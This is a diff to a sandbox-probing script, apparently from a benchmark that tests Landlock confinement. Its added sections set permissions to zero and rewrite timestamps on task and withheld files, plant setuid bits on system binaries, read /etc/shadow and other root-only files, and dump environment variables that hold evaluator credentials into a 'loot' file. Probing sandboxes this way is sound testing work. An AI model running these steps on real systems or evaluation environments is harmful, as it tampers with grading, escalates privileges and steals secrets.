@@ -183,6 +183,39 @@ try:
         print(f"-- add_key: errno {ctypes.get_errno()}")
 except OSError as exc:
     print(f"-- add_key: {exc}")
+
+
+# 11. What Landlock does not check (metadata, stat, the kernel's permissions): the case user's
+# own permissions must. Change modes, owners, times and attributes of the task's files and of
+# system files; plant a setuid file; learn which withheld files exist and how big they are.
+def meta(route: str, action: object, path: str) -> None:
+    try:
+        action(path)  # type: ignore[operator]
+        take(f"{route} {path}", "")
+    except OSError as exc:
+        print(f"-- {route} {path}: {exc}")
+
+
+task_paths = [task_dir, f"{task_dir}/task.toml", *targets.get("withheld", [])]
+for path in task_paths:
+    meta("chmod", lambda p: os.chmod(p, 0), path)
+    meta("utime", lambda p: os.utime(p, (0, 0)), path)
+    meta("setxattr", lambda p: os.setxattr(p, "user.ssebench", b"state"), path)
+for path in [*targets.get("system", []), "/usr/bin/ls"]:
+    meta("setuid", lambda p: os.chmod(p, 0o4755), path)
+    meta("setxattr", lambda p: os.setxattr(p, "user.ssebench", b"state"), path)
+for path in targets.get("stat", []):
+    try:
+        info = os.stat(path)
+        take(f"stat {path}", f"size {info.st_size}")
+    except OSError as exc:
+        print(f"-- stat {path}: {exc}")
+# 12. Files no ordinary user reads, and the evaluator's credentials in our environment.
+for path in ["/etc/shadow", *targets.get("root_only", [])]:
+    for found_path in glob.glob(path, recursive=True)[:200]:
+        if os.path.isfile(found_path):
+            read(f"root-only file {found_path}", found_path)
+take("environment", "\n".join(f"{k}={v}" for k, v in sorted(os.environ.items())))
 os.makedirs("loot", exist_ok=True)
 with open("loot/found.json", "w") as out:
     json.dump(found, out)
